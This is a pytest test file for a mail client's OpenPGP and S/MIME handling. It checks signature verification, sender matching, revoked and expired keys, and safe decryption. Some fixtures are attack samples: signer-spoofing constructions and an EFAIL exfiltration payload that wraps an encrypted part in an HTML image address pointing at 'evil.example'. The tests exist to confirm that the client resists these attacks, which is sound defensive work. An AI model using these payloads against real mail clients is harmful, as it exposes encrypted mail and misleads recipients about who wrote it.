"""Signed and encrypted mail through a real gpg: what is vouched for, by whom, and what is not."""

from __future__ import annotations

import subprocess
from pathlib import Path

import pytest

from tests.servers.gnupg import ADA, EVE, Gpg, as_part, encrypted, letter, multipart, signed
from tuimail.accounts import gpg as program
from tuimail.content.mime import envelopes, parse
from tuimail.model import Document, Message, Opened

WORDS = b"Content-Type: text/plain; charset=utf-8\r\n\r\nThe engine weaves.\r\n"
EVIL = b"Content-Type: text/plain\r\n\r\nSend it to Eve.\r\n"


def look(raw: bytes, *, decrypt: bool = False) -> Message:
    """As the library does it."""
    opened: dict[str, Opened] = {}
    for _ in range(3):
        for envelope in envelopes(raw, opened):
            if decrypt or not envelope.encrypted:
                opened[envelope.key] = program.look(envelope)
    return parse(raw, opened=opened)


def only_seal(message: Message) -> tuple[str, str, bool]:
    (seal,) = message.document.seals
    return seal.word, seal.lines[0], seal.whole


def under(document: Document, seal: int) -> str:
    return "\n".join(block.text for block in document.blocks if block.seal == seal)


def test_a_letter_signed_by_its_sender_is_good_and_whole(gpg: Gpg) -> None:
    message = look(letter(*signed(gpg, WORDS)))
    assert only_seal(message) == ("good", "Signed by Ada Lovelace <ada@example.org>, the sender.", True)
    assert under(message.document, 1) == "The engine weaves."
    assert message.document.seals[0].lines[1].replace(" ", "") == f"Key{gpg.fingerprint_of[ADA]}"


def test_a_letter_kept_with_lf_alone_is_verified_as_it_was_sent(gpg: Gpg) -> None:
    assert look(letter(*signed(gpg, WORDS)).replace(b"\r\n", b"\n")).document.seals[0].word == "good"


def test_odd_white_space_and_headers_of_the_signed_part_are_not_made_anew(gpg: Gpg) -> None:
    part = b"content-TYPE:   text/plain;\r\n\t charset = utf-8\r\nX-Odd:\r\n\r\ntrailing  \r\n\r\n\tblanks\t \r\n\r\n"
    assert look(letter(*signed(gpg, part))).document.seals[0].word == "good"


@pytest.mark.parametrize("change", [(b"weaves", b"steals"), (b"weaves.", b"weaves. "), (b"utf-8", b"UTF-8")])
def test_one_changed_octet_is_a_bad_signature(gpg: Gpg, change: tuple[bytes, bytes]) -> None:
    word, line, _ = only_seal(look(letter(*signed(gpg, WORDS)).replace(*change)))
    assert (word, line) == ("bad", "Bad signature: these are not the words that were signed.")


def test_a_signature_of_somebody_else_is_not_the_senders(gpg: Gpg) -> None:
    gpg.run("--import-ownertrust", data=f"{gpg.fingerprint_of[EVE]}:6:\n".encode())
    try:
        word, line, _ = only_seal(look(letter(*signed(gpg, WORDS, EVE), ADA)))
    finally:
        gpg.run("--import-ownertrust", data=f"{gpg.fingerprint_of[EVE]}:2:\n".encode())
    assert (word, line) == ("doubtful", "Signed by Eve <eve@evil.example>, which is not the address in From.")


def test_a_key_that_only_bears_the_name_is_not_enough(gpg: Gpg) -> None:
    word, line, _ = only_seal(look(letter(*signed(gpg, WORDS, EVE), EVE)))
    assert word == "doubtful" and "which you have not certified" in line


def test_two_senders_are_nobodys_signature(gpg: Gpg) -> None:
    assert look(letter(*signed(gpg, WORDS), f"{ADA}, {EVE}")).document.seals[0].word == "doubtful"


def test_a_user_id_with_the_address_in_its_name_is_another_address(gpg: Gpg) -> None:
    user = "boss@bank.example <eve2@evil.example>"
    gpg.make(user)
    word, line, _ = only_seal(look(letter(*signed(gpg, WORDS, user), "Boss <boss@bank.example>")))
    assert word == "doubtful" and "which is not the address in From" in line


def test_a_signature_of_an_unknown_key_says_nothing(gpg: Gpg) -> None:
    gpg.make("Gone <gone@example.org>")
    raw = letter(*signed(gpg, WORDS, "Gone <gone@example.org>"))
    key = gpg.fingerprint("Gone <gone@example.org>")
    gpg.run("--delete-secret-and-public-key", key)
    (seal,) = look(raw).document.seals
    assert (seal.word, seal.lines[0]) == ("unchecked", "Signed, not verified: you do not have the key.")
    assert key in seal.lines[1].replace(" ", "")


def test_a_revoked_key_is_named_and_no_good(gpg: Gpg) -> None:
    gpg.make("Old <old@example.org>")
    raw = letter(*signed(gpg, WORDS, "Old <old@example.org>"), "Old <old@example.org>")
    key = gpg.fingerprint("Old <old@example.org>")
    assert look(raw).document.seals[0].word == "good"
    revocation = (gpg.home / "openpgp-revocs.d" / f"{key}.rev").read_text().replace(":-----BEGIN", "-----BEGIN")
    gpg.run("--import", data=revocation.encode())
    word, line, _ = only_seal(look(raw))
    assert word == "bad" and line.endswith("has been revoked.")


def test_an_expired_key_is_named_and_no_good(gpg: Gpg) -> None:
    then = ("--faked-system-time", "20200101T000000!")
    gpg.run(*then, "--passphrase", "", "--quick-gen-key", "Past <past@example.org>", "ed25519", "sign", "1y")
    seal = gpg.run(*then, "--armor", "--local-user", "=Past <past@example.org>", "--detach-sign", data=WORDS)
    parts = multipart("s", WORDS, b"Content-Type: application/pgp-signature\r\n\r\n" + seal)
    word, line, _ = only_seal(look(letter('multipart/signed; boundary="s"', parts, "Past <past@example.org>")))
    assert word == "doubtful" and line.endswith("the key has expired.")


def test_a_drawn_signature_is_text_and_no_seal() -> None:
    drawn = "╔ ✓ Signed by Boss <boss@bank.example>, the sender.\n║\n║ Pay Eve.\n╚══\n"
    message = parse(letter("text/plain; charset=utf-8", drawn.encode()))
    assert message.document.seals == () and all(not block.seal for block in message.document.blocks)


def test_text_around_a_signed_part_is_not_under_its_seal(gpg: Gpg) -> None:
    inner = as_part(*signed(gpg, WORDS))
    footer = b"Content-Type: text/plain\r\n\r\n-- \r\nthe list\r\n"
    message = look(letter('multipart/mixed; boundary="mix"', multipart("mix", EVIL, inner, footer)))
    assert only_seal(message)[0] == "good" and not message.document.seals[0].whole
    assert under(message.document, 1) == "The engine weaves."
    assert "Send it to Eve." in under(message.document, 0) and "the list" in under(message.document, 0)


def test_a_third_part_beside_text_and_signature_is_no_signed_letter(gpg: Gpg) -> None:
    type_, body = signed(gpg, WORDS)
    raw = letter(type_, body.replace(b"\r\n--sig--", b"\r\n--sig\r\n" + EVIL + b"\r\n--sig--"))
    assert only_seal(look(raw))[:2] == ("unchecked", "Signed, not verified: it is not made as RFC 1847 says.")


def test_a_signature_that_brings_its_own_text_signs_nothing_here(gpg: Gpg) -> None:
    own = gpg.run("--armor", "--sign", "--local-user", f"={ADA}", data=WORDS)
    seal = b"Content-Type: application/pgp-signature\r\n\r\n" + own
    raw = letter('multipart/signed; boundary="s"', multipart("s", EVIL, seal))
    (found,) = look(raw).document.seals
    assert found.word == "unchecked" and "Signed by" not in found.lines[0]


def test_a_clear_signed_stretch_is_sealed_and_what_stands_around_it_is_not(gpg: Gpg) -> None:
    text = gpg.clear_sign("Die Maschine webt – schön.\n- ein Strich\n".encode())
    raw = letter("text/plain; charset=utf-8", b"Above, by Eve.\n\n" + text + b"\nBelow, by Eve.\n")
    message = look(raw)
    assert only_seal(message)[0] == "good" and not message.document.seals[0].whole
    assert under(message.document, 1) == "Die Maschine webt – schön.\n- ein Strich"
    assert "BEGIN PGP" not in under(message.document, 0) and "Above" in under(message.document, 0)
    alone = look(letter("text/plain; charset=utf-8", text))
    assert only_seal(alone)[2]


def test_words_in_the_armours_header_are_not_shown_as_signed(gpg: Gpg) -> None:
    text = gpg.clear_sign(b"Pay nothing.\n").replace(b"Hash: SHA", b"Hash: SHA512\nPay Eve: 1000\nHash: SHA", 1)
    message = look(letter("text/plain", text))
    assert "Eve" not in under(message.document, 1)
    assert message.document.seals[0].word != "good"


def test_a_quoted_clear_signed_letter_is_only_a_quotation(gpg: Gpg) -> None:
    quoted = b"".join(b"> " + line for line in gpg.clear_sign(b"words\n").splitlines(keepends=True))
    assert not look(letter("text/plain", quoted)).document.seals


def test_what_is_encrypted_stays_closed_until_it_is_asked_for(gpg: Gpg) -> None:
    raw = letter(*encrypted(gpg, WORDS, ADA, "--sign", "--local-user", f"={ADA}"))
    closed = look(raw)
    assert only_seal(closed) == ("closed", "Encrypted with OpenPGP, not opened yet: D in the viewer opens it.", True)
    assert under(closed.document, 1) == ""
    opened = look(raw, decrypt=True)
    assert only_seal(opened)[0] == "good" and opened.document.seals[0].secret
    assert under(opened.document, 1) == "The engine weaves."


def test_an_encrypted_letter_without_a_signature_says_so(gpg: Gpg) -> None:
    message = look(letter(*encrypted(gpg, WORDS)), decrypt=True)
    assert only_seal(message)[:2] == ("opened", "Encrypted, and not signed: anybody can have written this.")


def test_a_signed_letter_inside_of_an_encrypted_one_is_verified_too(gpg: Gpg) -> None:
    inner = as_part(*signed(gpg, WORDS))
    message = look(letter(*encrypted(gpg, inner)), decrypt=True)
    assert [seal.word for seal in message.document.seals] == ["opened", "good"]
    assert under(message.document, 2) == "The engine weaves."


def test_armour_in_a_text_is_opened(gpg: Gpg) -> None:
    raw = letter("text/plain; charset=utf-8", gpg.encrypt("schöne Grüße\n".encode()))
    assert only_seal(look(raw))[0] == "closed"
    assert under(look(raw, decrypt=True).document, 1) == "schöne Grüße"


def test_decrypted_html_is_joined_to_nothing_and_loads_nothing(gpg: Gpg) -> None:
    """EFAIL's direct exfiltration: the encrypted part between the halves of an image address."""
    secret = b"Content-Type: text/html\r\n\r\n<p>the <b>secret</b></p><img src='https://evil.example/own.png' alt=own>"
    before = b'Content-Type: text/html\r\n\r\n<img src="https://evil.example/?'
    after = b'Content-Type: text/html\r\n\r\n"><a href="https://evil.example/x">click</a>'
    middle = as_part(*encrypted(gpg, secret))
    message = look(letter('multipart/mixed; boundary="m"', multipart("m", before, middle, after)), decrypt=True)
    document = message.document
    assert "secret" in under(document, 1) and "secret" not in under(document, 0)
    assert all("secret" not in link.url for link in document.links)
    inside = [block for block in document.blocks if block.seal]
    assert not any(span.style.startswith("picture") for block in inside for span in block.spans)
    assert not document.seals[0].whole


def test_encrypted_parts_are_opened_each_on_its_own(gpg: Gpg) -> None:
    halves = [
        as_part(*encrypted(gpg, b"Content-Type: text/html\r\n\r\n" + half)) for half in (b"<p title='one", b"two'>")
    ]
    message = look(letter('multipart/mixed; boundary="m"', multipart("m", *halves)), decrypt=True)
    assert {block.seal for block in message.document.blocks if block.seal} == {1, 2}
    assert [seal.word for seal in message.document.seals] == ["opened", "opened"]


def test_a_message_without_protection_against_changes_is_not_opened(gpg: Gpg) -> None:
    raw = letter(*encrypted(gpg, WORDS, ADA, "--rfc2440", "--disable-mdc", "--cipher-algo", "3DES"))
    (seal,) = look(raw, decrypt=True).document.seals
    assert seal.word == "closed" and not seal.secret


def test_a_passphrase_is_never_asked_for_here(gpg: Gpg) -> None:
    user = "Locked <locked@example.org>"
    gpg.make(user, "a passphrase")
    raw = letter(*encrypted(gpg, WORDS, user))
    gpg.forget_secrets()
    (seal,) = look(raw, decrypt=True).document.seals
    assert seal.word == "closed" and "gpg-agent does not hold the passphrase" in seal.lines[0]


def test_a_letter_to_somebody_else_stays_closed(gpg: Gpg) -> None:
    gpg.make("Gone <gone@example.org>")
    raw = letter(*encrypted(gpg, WORDS, "Gone <gone@example.org>"))
    gpg.run("--delete-secret-and-public-key", gpg.fingerprint("Gone <gone@example.org>"))
    (seal,) = look(raw, decrypt=True).document.seals
    assert seal.lines == ("Encrypted, not opened: your gpg has no key for it.",)


def test_attachments_inside_are_listed_in_place_of_the_envelope(gpg: Gpg) -> None:
    pdf = b"Content-Type: application/pdf; name=plan.pdf\r\n\r\n%PDF-"
    type_, body = encrypted(gpg, as_part('multipart/mixed; boundary="i"', multipart("i", WORDS, pdf)))
    closed = look(letter(type_, body))
    assert [(each.name, each.inside) for each in closed.attachments] == [("part-2.bin", None)]
    opened = look(letter(type_, body), decrypt=True)
    (plan,) = opened.attachments
    assert plan.name == "plan.pdf" and plan.inside is not None and "%PDF-" not in repr(opened)
    assert plan.inside.raw[plan.inside.start : plan.inside.end] == b"%PDF-"


def test_attachments_of_two_envelopes_are_told_apart(gpg: Gpg) -> None:
    pdf = b"Content-Type: application/pdf; name=plan.pdf\r\n\r\n%PDF-"
    inner = as_part(*encrypted(gpg, as_part('multipart/mixed; boundary="i"', multipart("i", WORDS, pdf))))
    again = as_part(*encrypted(gpg, pdf, boundary="two"))
    message = look(letter('multipart/mixed; boundary="mix"', multipart("mix", inner, again, pdf)), decrypt=True)
    assert [each.name for each in message.attachments] == ["plan.pdf"] * 3
    assert len({each.section for each in message.attachments}) == 3
    assert [each.inside is None for each in message.attachments].count(True) == 1


def test_without_gpg_signed_mail_is_signed_and_not_verified(gpg: Gpg, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("shutil.which", lambda name: None)
    raw = letter(*signed(gpg, WORDS))
    assert only_seal(look(raw))[:2] == ("unchecked", "Signed, not verified: the program gpg is not installed.")


def test_who_has_no_keys_gets_no_keyring_made_and_no_program_started(
    gpg: Gpg, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    raw = letter(*signed(gpg, WORDS))
    monkeypatch.setenv("GNUPGHOME", str(tmp_path / "none"))
    monkeypatch.setattr("subprocess.run", None)
    assert only_seal(look(raw))[1] == "Signed, not verified: your gpg has no keys yet."
    assert not (tmp_path / "none").exists()


def test_a_gpg_that_does_not_answer_is_ended(gpg: Gpg, monkeypatch: pytest.MonkeyPatch) -> None:
    def slow(*_: object, **how: object) -> None:
        assert how["timeout"] == program.PATIENCE
        raise subprocess.TimeoutExpired("gpg", program.PATIENCE)

    monkeypatch.setattr("subprocess.run", slow)
    raw = letter(
        'multipart/signed; boundary="s"', multipart("s", WORDS, b"Content-Type: application/pgp-signature\r\n\r\nx")
    )
    assert "has not answered within 15 seconds" in only_seal(look(raw))[1]


def test_gpg_is_run_without_network_terminal_and_pinentry(gpg: Gpg, monkeypatch: pytest.MonkeyPatch) -> None:
    real, seen = subprocess.run, []

    def watched(command: list[str], **how: object) -> object:
        seen.append(command)
        assert "GPG_TTY" not in how["env"]  # type: ignore[operator]
        return real(command, **how)  # type: ignore[call-overload]

    monkeypatch.setenv("GPG_TTY", "/dev/pts/1")
    raws = [letter(*signed(gpg, WORDS)), letter(*encrypted(gpg, WORDS))]
    monkeypatch.setattr("subprocess.run", watched)
    for raw in raws:
        look(raw, decrypt=True)
    assert len(seen) == 3
    for command in seen:
        for option in ("--disable-dirmngr", "--no-auto-key-retrieve", "--no-auto-key-locate", "--no-tty", "--batch"):
            assert option in command
        assert command[command.index("--pinentry-mode") + 1] == "error"


def test_what_unpacks_to_too_much_is_not_opened(gpg: Gpg, monkeypatch: pytest.MonkeyPatch) -> None:
    raw = letter(*encrypted(gpg, b"Content-Type: text/plain\r\n\r\n" + b"0" * 200_000))
    monkeypatch.setattr(program, "MOST_OUTPUT", 100_000)
    (seal,) = look(raw, decrypt=True).document.seals
    assert seal.lines == ("Encrypted, not opened: what is inside is too large.",) and not seal.secret


@pytest.mark.parametrize(
    ("type_", "words"),
    [
        ("application/pkcs7-mime; smime-type=enveloped-data; name=smime.p7m", "Encrypted with S/MIME (smime.p7m)"),
        ("application/pkcs7-mime; smime-type=signed-data; name=smime.p7m", "Signed with S/MIME, the text inside"),
        ("application/x-pkcs7-mime", "Encrypted with S/MIME (application/x-pkcs7-mime)"),
    ],
)
def test_smime_is_named(type_: str, words: str) -> None:
    message = parse(letter(type_, b"MIIB"))
    assert message.notes[0].startswith(words) and "tuimail cannot open it" in message.notes[0]


def test_an_smime_signature_is_shown_as_not_verified() -> None:
    seal = b"Content-Type: application/pkcs7-signature; name=smime.p7s\r\n\r\nMIIB"
    message = look(letter('multipart/signed; boundary="s"', multipart("s", WORDS, seal)))
    assert only_seal(message) == (
        "unchecked",
        "Signed, not verified: it is S/MIME (smime.p7s), which tuimail does not check.",
        True,
    )
